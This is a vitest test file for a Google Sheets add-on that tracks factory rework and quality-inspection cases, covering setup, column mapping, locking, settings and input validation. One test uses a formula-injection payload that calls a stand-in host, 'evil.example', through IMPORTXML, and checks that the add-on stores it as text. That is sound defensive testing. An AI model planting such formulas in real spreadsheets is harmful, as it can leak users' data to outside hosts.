import { describe, expect, it } from 'vitest';
import { FakeSpreadsheet } from '../../fakes/spreadsheet';
import type { SetupResult } from '../../src/shared/contract';
import { TRACKER_SHEETS } from '../../src/tracker/schema';
import { Desk } from '../support/desk';
import { loadBundle } from '../../fakes/runtime';

const NEW_CASE = { factory: 'Baiyun Bags', style: 'Tote T-40', orderValue: 8000, lotSize: 1200 };

function deskWith(prepare: (ss: FakeSpreadsheet) => void): Desk {
  const spreadsheet = new FakeSpreadsheet();
  prepare(spreadsheet);
  return new Desk(loadBundle(spreadsheet));
}

describe('setting up the tracker', () => {
  it('creates every sheet with frozen bold headers, dropdowns, checkboxes, formats and protected computed columns', () => {
    const desk = new Desk();
    const report = desk.ok<SetupResult>('rdSetupTracker');
    expect(report).toMatchObject({ ok: true, created: TRACKER_SHEETS.map((s) => s.name), problems: [] });
    const cases = desk.sheet('RD Cases');
    expect(cases.getFrozenRows()).toBe(1);
    const header = cases.dump()[0].map(String);
    const col = (name: string) => header.indexOf(name) + 1;
    expect(cases.cell(1, 1).fontWeight).toBe('bold');
    expect(cases.cell(2, col('Inspection level')).validation).toMatchObject({
      kind: 'list',
      values: ['S-1', 'S-2', 'S-3', 'S-4', 'I', 'II', 'III'],
    });
    expect(cases.cell(2, col('Quarantined')).validation).toMatchObject({ kind: 'checkbox' });
    expect(cases.cell(2, col('Order value')).numberFormat).toBe('#,##0.00');
    expect(cases.cell(2, col('Tell agent by')).numberFormat).toBe('yyyy-mm-dd hh:mm');
    // One warning-only protection per run of adjacent computed columns.
    expect(cases.protections.map((p) => p.description)).toEqual([
      'RD Cases: Case ID, Status, Next step, Created are written by Rework Desk from the protocol.',
      'RD Cases: Client is set from the case desk, so a move to another client is logged with its reason.',
      'RD Cases: Hold notice at, Tell agent by are written by Rework Desk from the protocol.',
      'RD Cases: Quarantined, Rework cycle, Factory pays next cycle, Rework agreed, Concession agreed, Concession discount, Concession credit, Was held, Severity from factory record, Updated are written by Rework Desk from the protocol.',
    ]);
    // Typed text stays text; dates get Sheets' date picker.
    expect(cases.cell(1000, col('PO')).numberFormat).toBe('@');
    expect(cases.cell(2, col('Agent told at')).validation).toMatchObject({ kind: 'date' });
    expect(cases.protections.every((p) => p.warningOnly)).toBe(true);
    expect(cases.conditionalRules.map((r) => r.formula)).toEqual([
      expect.stringMatching(/^=\$[A-Z]+2=TRUE$/),
      expect.stringMatching(/NOW\(\)>\$[A-Z]+2/),
      expect.stringMatching(/^=\$B2="on-hold"$/),
    ]);
    expect(desk.sheet('RD Inspections').conditionalRules[0].formula).toMatch(/"REJECT".*"FAIL"/);
    expect(desk.sheet('RD Settlements').cell(2, 10).numberFormat).toBe('0.00%');
    expect(
      desk
        .sheet('RD Settings')
        .records()
        .map((r) => r.Setting),
    ).toContain('Hold notice hours');
  });

  it('changes nothing when run twice', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    desk.ok('rdCreateCase', NEW_CASE);
    const before = desk.bundle.spreadsheet.sheets.map((s) => JSON.stringify(s.dump()));
    const again = desk.ok<SetupResult>('rdSetupTracker');
    expect(again).toMatchObject({ ok: true, created: [], columnsAdded: {}, settingsAdded: [] });
    expect(again.unchanged).toHaveLength(TRACKER_SHEETS.length);
    expect(desk.bundle.spreadsheet.sheets.map((s) => JSON.stringify(s.dump()))).toEqual(before);
  });

  it('leaves the user’s own sheets alone', () => {
    const desk = deskWith((ss) => {
      const own = ss.insertSheet('Sourcing plan') as unknown as { getRange: FakeSpreadsheet['sheets'][0]['getRange'] };
      own.getRange(1, 1, 2, 2).setValues([
        ['Style', 'Qty'],
        ['Tote', 400],
      ]);
    });
    desk.ok('rdSetupTracker');
    expect(desk.sheet('Sourcing plan').dump()).toEqual([
      ['Style', 'Qty'],
      ['Tote', 400],
    ]);
  });

  it('adds missing columns at the end of a tracker sheet, keeping its data', () => {
    const desk = deskWith((ss) => {
      const log = ss.insertSheet('RD Log');
      log.getRange(1, 1, 2, 3).setValues([
        ['When', 'Who', 'Case ID'],
        [new Date('2025-01-01'), 'someone', 'RD-2025-0009'],
      ]);
    });
    const report = desk.ok<SetupResult>('rdSetupTracker');
    expect(report.columnsAdded).toEqual({ 'RD Log': ['Action', 'Before', 'After'] });
    expect(desk.sheet('RD Log').dump()[0]).toEqual(['When', 'Who', 'Case ID', 'Action', 'Before', 'After']);
    expect(desk.sheet('RD Log').dump()[1].slice(1, 3)).toEqual(['someone', 'RD-2025-0009']);
  });

  it('writes nothing when a sheet of the same name holds something else', () => {
    const desk = deskWith((ss) => {
      ss.insertSheet('RD Cases')
        .getRange(1, 1, 1, 2)
        .setValues([['Name', 'Phone']]);
    });
    const report = desk.ok<SetupResult>('rdSetupTracker');
    expect(report.ok).toBe(false);
    expect(report.problems[0]).toBe(
      `"RD Cases" already exists but its first row has none of the tracker's columns; rename that sheet or move its data, then set up again.`,
    );
    expect(desk.bundle.spreadsheet.sheets.map((s) => s.getName())).toEqual(['RD Cases']);
    expect(desk.sheet('RD Cases').dump()).toEqual([['Name', 'Phone']]);
  });

  it('reports through the menu in words', () => {
    const b = loadBundle();
    b.call('setUpCaseTracker');
    b.call('setUpCaseTracker');
    expect(b.ui.alerts[0]).toMatch(/^Rework Desk\nCreated: RD Cases, RD Inspections/);
    expect(b.ui.alerts[1]).toMatch(
      /^Rework Desk\nThe case tracker is already set up; nothing needed changing\.\n\nRework Desk is now enabled in this spreadsheet, so its formulas .* work here\. In another spreadsheet, use any Rework Desk menu item once, or Extensions → Add-ons → Manage add-ons → Use in this document\.$/,
    );
  });
});

describe('header-mapped repositories', () => {
  it('keep working with reordered columns and a user column in between, whose formulas stay', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const cases = desk.sheet('RD Cases');
    const [header] = cases.dump();
    // Swap Factory and Style, and put a user formula column where PO was.
    const reordered = header.map(String);
    const f = reordered.indexOf('Factory');
    const s = reordered.indexOf('Style');
    [reordered[f], reordered[s]] = [reordered[s], reordered[f]];
    const po = reordered.indexOf('PO');
    reordered[po] = 'My notes';
    reordered.push('PO');
    cases.insertColumnsAfter(cases.getMaxColumns(), 1);
    cases.getRange(1, 1, 1, reordered.length).setValues([reordered]);
    const id = desk.ok('rdCreateCase', { ...NEW_CASE, po: 'PO-77' }).id;
    // The user's own formula in the case's row survives the add-on's next write to that row.
    cases.getRange(2, po + 1).setValue('=NOW()');
    desk.ok('rdRecordInspection', { caseId: id, inspector: 'Li Wei', criticalFound: 0, majorFound: 9, minorFound: 0 });
    const [row] = cases.records();
    expect(row).toMatchObject({ 'Case ID': id, Factory: 'Baiyun Bags', Style: 'Tote T-40', PO: 'PO-77', Status: 'on-hold' });
    expect(cases.formulaAt(2, po + 1)).toBe('=NOW()');
    expect(desk.view(id)).toMatchObject({ factory: 'Baiyun Bags', style: 'Tote T-40', po: 'PO-77' });
  });

  it('refuse to write when a required header is gone, and say which', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    desk.ok('rdCreateCase', NEW_CASE);
    const cases = desk.sheet('RD Cases');
    const header = cases.dump()[0].map(String);
    cases.getRange(1, header.indexOf('Factory') + 1).setValue('Supplier');
    const before = { cases: JSON.stringify(cases.dump()), log: desk.sheet('RD Log').dump().length };
    expect(desk.refused('rdCreateCase', NEW_CASE)).toBe(
      '"RD Cases" lacks the column(s) "Factory": run Set up case tracker to add them back.',
    );
    expect(JSON.stringify(cases.dump())).toBe(before.cases);
    expect(desk.sheet('RD Log').dump()).toHaveLength(before.log);
  });

  it('store text that looks like a formula as text', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const payloads = { factory: '=IMPORTXML("https://evil.example","//a")', style: '+SUM(1,2)', po: '-1+2', currency: 'USD' };
    const id = desk.ok('rdCreateCase', { ...NEW_CASE, ...payloads }).id;
    desk.ok('rdRecordInspection', { caseId: id, inspector: '@admin', criticalFound: 0, majorFound: 9, minorFound: 0 });
    const cases = desk.sheet('RD Cases');
    const header = cases.dump()[0].map(String);
    for (const [name, value] of [
      ['Factory', payloads.factory],
      ['Style', payloads.style],
      ['PO', payloads.po],
      ['OQC inspector', '@admin'],
    ]) {
      const column = header.indexOf(name) + 1;
      expect(cases.formulaAt(2, column), name).toBe('');
      expect(cases.cell(2, column).value, name).toBe(value);
    }
    expect(desk.view(id).factory).toBe(payloads.factory);
  });
});

describe('the document lock', () => {
  it('lets interleaved saves lose and duplicate nothing', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const counter = desk.bundle.spreadsheet.counter;
    let second: ReturnType<Desk['raw']> | undefined;
    counter.onCall = (name) => {
      if (name === 'getValues' && !second) {
        counter.onCall = undefined;
        second = desk.raw('rdCreateCase', { ...NEW_CASE, style: 'second' });
      }
    };
    const first = desk.ok('rdCreateCase', { ...NEW_CASE, style: 'first' });
    expect(second).toEqual({
      ok: false,
      error: 'Another save is in progress in this workbook; nothing was changed — try again in a moment.',
    });
    const retried = desk.ok('rdCreateCase', { ...NEW_CASE, style: 'second' });
    const rows = desk.sheet('RD Cases').records();
    expect(rows.map((r) => r.Style)).toEqual(['first', 'second']);
    expect(new Set(rows.map((r) => r['Case ID'])).size).toBe(2);
    expect([first.id, retried.id].map((id) => id.slice(-4))).toEqual(['0001', '0002']);
    expect(desk.bundle.lock.holder).toBeNull();
  });

  it('is released, and the user told plainly, when Sheets itself fails mid-save', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const counter = desk.bundle.spreadsheet.counter;
    counter.onCall = (name) => {
      if (name === 'setValues') throw new Error('Service Spreadsheets timed out while accessing document');
    };
    expect(desk.refused('rdCreateCase', NEW_CASE)).toBe(
      'Sheets did not complete the save, so this step may be only partly recorded: check the case before trying again. The details are in the execution log.',
    );
    counter.onCall = undefined;
    expect(String(desk.bundle.errors[0][0])).toMatch(/Service Spreadsheets timed out/);
    expect(desk.bundle.lock.holder).toBeNull();
    expect(desk.sheet('RD Cases').records()).toHaveLength(0);
    expect(desk.ok('rdCreateCase', NEW_CASE).id).toMatch(/-0001$/);
  });

  it('is released when a save fails', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    desk.refused('rdCreateCase', { ...NEW_CASE, lotSize: -1 });
    expect(desk.bundle.lock.holder).toBeNull();
    expect(desk.ok('rdCreateCase', NEW_CASE).id).toMatch(/-0001$/);
  });
});

describe('settings', () => {
  it('give new cases their defaults, and name a bad value', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const settings = desk.sheet('RD Settings');
    const rows = settings.dump().map((r) => String(r[0]));
    settings.getRange(rows.indexOf('AQL major') + 1, 2).setValue(1.5);
    settings.getRange(rows.indexOf('Currency') + 1, 2).setValue('cny');
    const id = desk.ok('rdCreateCase', NEW_CASE).id;
    expect(desk.view(id)).toMatchObject({ aqlMajor: 1.5, currency: 'CNY', level: 'II' });
    settings.getRange(rows.indexOf('Hold notice hours') + 1, 2).setValue('soon');
    expect(desk.refused('rdRecordInspection', { caseId: id, inspector: 'A', criticalFound: 0, majorFound: 0, minorFound: 0 })).toBe(
      'Setting "Hold notice hours" must be a number from 0.25 to 168; it is "soon".',
    );
  });
});

describe('the defect catalogue in settings', () => {
  it('classifies by the thresholds as edited, and refuses thresholds out of order', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    const settings = desk.sheet('RD Settings');
    const names = settings.dump().map((r) => String(r[0]));
    const majorColour = names.indexOf('Threshold: Colour deviation, major above (ΔE)') + 1;
    expect(majorColour).toBeGreaterThan(0);
    expect(settings.cell(majorColour, 2).value).toBe(1.5);
    expect(names).toContain('Threshold: Seam pull test (shoulder strap), major below (kg)');
    const id = desk.ok('rdCreateCase', NEW_CASE).id;
    desk.ok('rdRecordInspection', { caseId: id, inspector: 'Li Wei', criticalFound: 0, majorFound: 9, minorFound: 0 });
    settings.getRange(majorColour, 2).setValue(2);
    const added = desk.ok<{ classes: string[] }>('rdAddDefects', {
      caseId: id,
      defects: [{ unitRef: 'U1', defectType: 'colour', measurement: 1.8 }],
    });
    expect(added.classes).toEqual(['MINOR']);
    expect(desk.sheet('RD Defects').records()[0]['Deciding rule']).toBe(
      'ΔE under D65 against the approved lab dip of 1 ΔE or more is minor (threshold set in RD Settings)',
    );
    settings.getRange(majorColour, 2).setValue(0.5);
    expect(desk.refused('rdAddDefects', { caseId: id, defects: [{ unitRef: 'U2', defectType: 'colour', measurement: 1.8 }] })).toBe(
      'The thresholds for colour deviation are out of order: major at 0.5 would come before minor at 1.',
    );
  });
});

describe('requests from the sidebar', () => {
  it('are checked field by field', () => {
    const desk = new Desk();
    desk.ok('rdSetupTracker');
    expect(desk.refused('rdCreateCase', 'hello')).toBe('The request is not a form.');
    expect(desk.refused('rdCreateCase', { ...NEW_CASE, factory: ' ' })).toBe('Factory is required.');
    expect(desk.refused('rdCreateCase', { ...NEW_CASE, lotSize: 12.5 })).toBe('Lot size must be a whole number.');
    expect(desk.refused('rdCreateCase', { ...NEW_CASE, aqlMajor: 3 })).toMatch(/^AQL 3 is not a standard AQL/);
    expect(desk.refused('rdCreateCase', { ...NEW_CASE, level: 'V' })).toMatch(/^Level "V" is not an inspection level/);
    expect(desk.refused('rdGetCase', { caseId: 'RD-1999-0001' })).toBe('There is no case RD-1999-0001 in "RD Cases".');
    const id = desk.ok('rdCreateCase', NEW_CASE).id;
    desk.ok('rdRecordInspection', { caseId: id, inspector: 'Li Wei', criticalFound: 0, majorFound: 9, minorFound: 0 });
    expect(desk.refused('rdRecordAgentNotified', { caseId: id, at: 'yesterday' })).toBe(
      'Agent told at must be a date and time such as 2026-03-14 09:30 (Etc/UTC time).',
    );
    expect(desk.refused('rdAddDefects', { caseId: id, defects: [] })).toBe('Defects: give at least one.');
    expect(desk.refused('rdAddDefects', { caseId: id, defects: [{ unitRef: 'U1', defectType: 'wobble' }] })).toMatch(
      /^Unknown defect type "wobble"; known types: /,
    );
  });

  it('before setup, say to run it', () => {
    const desk = new Desk();
    expect(desk.refused('rdCreateCase', NEW_CASE)).toBe(
      'The sheet "RD Settings" is missing: run Extensions → Rework Desk → Set up case tracker.',
    );
  });
});
